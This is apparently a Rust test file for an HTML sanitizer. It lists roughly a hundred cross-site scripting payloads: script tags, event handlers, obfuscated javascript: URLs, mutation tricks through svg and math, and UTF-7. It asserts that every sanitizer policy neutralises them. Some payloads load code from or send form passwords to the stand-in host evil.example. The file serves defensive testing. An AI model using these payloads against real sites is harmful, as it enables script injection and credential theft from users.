//! Attacks of our own: one of each kind that has worked against some sanitizer.

use super::judge::{faults, parsed};
use portcullis::input::html::Policy;

const ATTACKS: &[(&str, &str)] = &[
    ("script", "<script>x()</script>"),
    (
        "script in capitals",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    ),
    ("script without an end", "<script>x()"),
    ("script in script", "<scr<script>ipt>x()</scr</script>ipt>"),
    ("script with a slash", "<script/x>x()</script>"),
    ("script, NUL within", "<scr\0ipt>x()</scr\0ipt>"),
    ("script of svg", "<svg><script>x()</script></svg>"),
    (
        "script of svg, referring",
        "<svg><script href=data:,x() /></svg>",
    ),
    ("handler", "<img src=x onerror=x()>"),
    ("handler, slashes", "<img/src=x/onerror=x()>"),
    ("handler, no quotes", "<b onmouseover=x()//>y"),
    ("handler, form feed", "<b\x0Conclick=x()>y"),
    ("handler, capitals", "<b oNcLiCk=x()>y</b>"),
    ("handler, backticks", "<img src=`x` onerror=`x()`>"),
    ("handler after quotes", "<img title=\"a\"onerror=x()>"),
    (
        "handler of a newer kind",
        "<p onbeforetoggle=x() onscrollend=x() oncontentvisibilityautostatechange=x()>",
    ),
    (
        "handler out of an attribute",
        "<p title='\"><img src=x onerror=x()>'>y</p>",
    ),
    (
        "handler out of a broken attribute",
        "<p title=\"<img src=x onerror=x()>",
    ),
    ("javascript", "<a href=javascript:x()>y</a>"),
    ("javascript, mixed", "<a href=JaVaScRiPt:x()>y</a>"),
    (
        "javascript, references",
        "<a href=&#106;&#x61;vascript&colon;x()>y</a>",
    ),
    (
        "javascript, reference without an end",
        "<a href=&#0000106avascript:x()>y</a>",
    ),
    ("javascript, tab", "<a href='java&Tab;script:x()'>y</a>"),
    (
        "javascript, line feed",
        "<a href='java&NewLine;script&colon;x()'>y</a>",
    ),
    ("javascript, NUL", "<a href='java\0script:x()'>y</a>"),
    (
        "javascript, controls",
        "<a href='\x01\x02java\x03script:x()'>y</a>",
    ),
    (
        "javascript, no-break space",
        "<a href='&nbsp;javascript:x()'>y</a>",
    ),
    (
        "javascript, ideographic space",
        "<a href='\u{3000}javascript:x()'>y</a>",
    ),
    (
        "javascript, byte order mark",
        "<a href='\u{FEFF}javascript:x()'>y</a>",
    ),
    (
        "javascript, zero width",
        "<a href='java\u{200B}script:x()'>y</a>",
    ),
    (
        "javascript, soft hyphen",
        "<a href='java&shy;script:x()'>y</a>",
    ),
    (
        "javascript in cite",
        "<blockquote cite=javascript:x()>y</blockquote><q cite=javascript:x()>y</q>",
    ),
    ("javascript in an image", "<img src=javascript:x()>"),
    (
        "javascript in a background",
        "<table background=javascript:x()><tr><td background=javascript:x()>y</td></tr></table>",
    ),
    (
        "javascript in xlink",
        "<svg><a xlink:href=javascript:x()><text>y</text></a></svg>",
    ),
    (
        "javascript by animation",
        "<svg><a><animate attributeName=href to=javascript:x() /></a></svg>",
    ),
    (
        "javascript by set",
        "<svg><a><set attributeName=xlink:href to=javascript:x() /></a></svg>",
    ),
    ("javascript in math", "<math href=javascript:x()>y</math>"),
    (
        "javascript in a form",
        "<form action=javascript:x()><button formaction=javascript:x()>y</button></form>",
    ),
    ("vbscript", "<a href=vbscript:x>y</a>"),
    (
        "data, html",
        "<a href='data:text/html,<script>x()</script>'>y</a>",
    ),
    (
        "data, svg",
        "<img src='data:image/svg+xml,<svg onload=x()>'>",
    ),
    (
        "data, in an object",
        "<object data='data:text/html,x'></object>",
    ),
    ("blob", "<a href=blob:https://example.com/1>y</a>"),
    ("other scheme", "<a href=feed:javascript:x()>y</a>"),
    ("frame", "<iframe src=https://evil.example></iframe>"),
    (
        "frame with a document",
        "<iframe srcdoc='<script>x()</script>'></iframe>",
    ),
    ("embed", "<embed src=https://evil.example/x.swf>"),
    ("base", "<base href=https://evil.example/>"),
    (
        "refresh",
        "<meta http-equiv=refresh content='0;url=javascript:x()'>",
    ),
    (
        "policy",
        "<meta http-equiv=content-security-policy content=x>",
    ),
    (
        "link",
        "<link rel=stylesheet href=https://evil.example/x.css>",
    ),
    ("style", "<style>*{background:url(//evil.example)}</style>"),
    (
        "style of an element",
        "<p style='background:url(javascript:x())'>y</p>",
    ),
    (
        "style over the page",
        "<div style='position:fixed;inset:0'><a href=https://evil.example>y</a></div>",
    ),
    (
        "form",
        "<form action=https://evil.example><input name=password></form>",
    ),
    ("id", "<p id=config>y</p>"),
    ("name", "<img name=cookie src=x>"),
    (
        "names within a form",
        "<form id=x><input name=attributes></form>",
    ),
    ("a link's names", "<a id=x></a><a id=x name=y href=z>y</a>"),
    ("slot and part", "<p slot=x part=y is=z>y</p>"),
    ("target", "<a href=https://example.com target=_blank>y</a>"),
    (
        "another rel",
        "<a href=https://example.com rel=opener>y</a>",
    ),
    ("comment", "<!-- <script>x()</script> -->"),
    (
        "comment of old browsers",
        "<!--[if IE]><script>x()</script><![endif]-->",
    ),
    ("comment that ends early", "<!--><img src=x onerror=x()>-->"),
    (
        "comment that ends with a mark",
        "<!-- --!><img src=x onerror=x()>-->",
    ),
    ("character data", "<![CDATA[<img src=x onerror=x()>]]>"),
    (
        "character data of svg",
        "<svg><![CDATA[><img src=x onerror=x()>]]></svg>",
    ),
    (
        "instruction",
        "<?xml-stylesheet href='javascript:x()'?><p>y</p>",
    ),
    (
        "entity",
        "<!DOCTYPE x [<!ENTITY y '<script>x()</script>'>]>&y;",
    ),
    (
        "text area",
        "<textarea></p><img src=x onerror=x()></textarea>",
    ),
    ("title", "<title><img src=x onerror=x()></title>"),
    (
        "no script",
        "<noscript><p title='</noscript><img src=x onerror=x()>'></noscript>",
    ),
    (
        "no embed",
        "<noembed><img title='</noembed><img src=x onerror=x()>'></noembed>",
    ),
    (
        "xmp",
        "<xmp><p title='</xmp><img src=x onerror=x()>'></xmp>",
    ),
    ("plaintext", "<plaintext><img src=x onerror=x()>"),
    ("template", "<template><img src=x onerror=x()></template>"),
    (
        "shadow",
        "<div><template shadowrootmode=open><img src=x onerror=x()></template></div>",
    ),
    (
        "select",
        "<select><template><img src=x onerror=x()></template></select>",
    ),
    (
        "select, style",
        "<select><style></select><img src=x onerror=x()></style>",
    ),
    (
        "frameset",
        "<frameset onload=x()><frame src=javascript:x()></frameset>",
    ),
    ("body", "<body onload=x()>y</body>"),
    (
        "html",
        "<html onclick=x()><head><script>x()</script></head></html>",
    ),
    (
        "math, style",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=x()&gt;\">",
    ),
    (
        "math, annotation",
        "<math><annotation-xml encoding=text/html><style><img title='</style><img src=x onerror=x()>'></annotation-xml></math>",
    ),
    (
        "math, forms",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=x()>",
    ),
    (
        "svg, paragraph",
        "<svg></p><style><a id='</style><img src=x onerror=x()>'>",
    ),
    (
        "svg, foreign object",
        "<svg><foreignObject><img src=x onerror=x()></foreignObject></svg>",
    ),
    (
        "svg, title",
        "<svg><title><style><a title='</style></title><img src=x onerror=x()>'></svg>",
    ),
    (
        "svg, use",
        "<svg><use href='data:image/svg+xml,<svg id=x onload=x()>#x' /></svg>",
    ),
    (
        "table, foster",
        "<table><a href=javascript:x()>y<tr><td></table>",
    ),
    (
        "a table in a link",
        "<a href=/1><table><td><a href=/2>y</a></td></table></a>",
    ),
    ("marks in disorder", "<b><a href=/><p></b><i></a>y</p></i>"),
    ("old image", "<image src=x onerror=x()>"),
    ("old index", "<isindex type=image src=x onerror=x()>"),
    (
        "old layer",
        "<layer src=https://evil.example></layer><bgsound src=javascript:x()>",
    ),
    ("behavior", "<p style=behavior:url(x)>y</p><xml id=x></xml>"),
    (
        "namespace",
        "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>x()</x:script>",
    ),
    ("references once more", "&lt;script&gt;x()&lt;/script&gt;"),
    ("references twice", "&amp;lt;script&amp;gt;x()"),
    ("half a tag", "<img src=x onerror=x()"),
    ("angles", "<<img src=x onerror=x()>><"),
    (
        "other angles",
        "\u{FF1C}script\u{FF1E}x()\u{FF1C}/script\u{FF1E}",
    ),
    ("another charset", "+ADw-script+AD4-x()+ADw-/script+AD4-"),
    ("direction", "<p>\u{202E}y</p><bdo dir=rtl>y</bdo>"),
];

#[test]
fn our_own_attacks_are_neutral() {
    for (name, html) in ATTACKS {
        for policy in [
            Policy::rich_text(),
            Policy::comment(),
            Policy::basic(),
            Policy::text_only(),
        ] {
            let clean = policy
                .clean(html)
                .unwrap_or_else(|error| panic!("{name}: {error}"));
            assert_eq!(faults(&clean), [""; 0], "{name}: {html}\n{clean}");
            assert_eq!(policy.clean(&clean).as_ref(), Ok(&clean), "{name}");
            let reported = policy.clean_with_report(html).unwrap();
            assert_eq!(reported.html(), clean, "{name}");
        }
    }
    assert_eq!(ATTACKS.len(), 106);
}

#[test]
fn what_is_text_stays_text() {
    for html in [
        "&lt;script&gt;x()&lt;/script&gt;",
        "&amp;lt;b&amp;gt;",
        "1 &lt; 2",
        "+ADw-script+AD4-",
    ] {
        let clean = Policy::rich_text().clean(html).unwrap();
        assert_eq!(parsed(&clean, true).text, parsed(html, true).text, "{html}");
    }
}
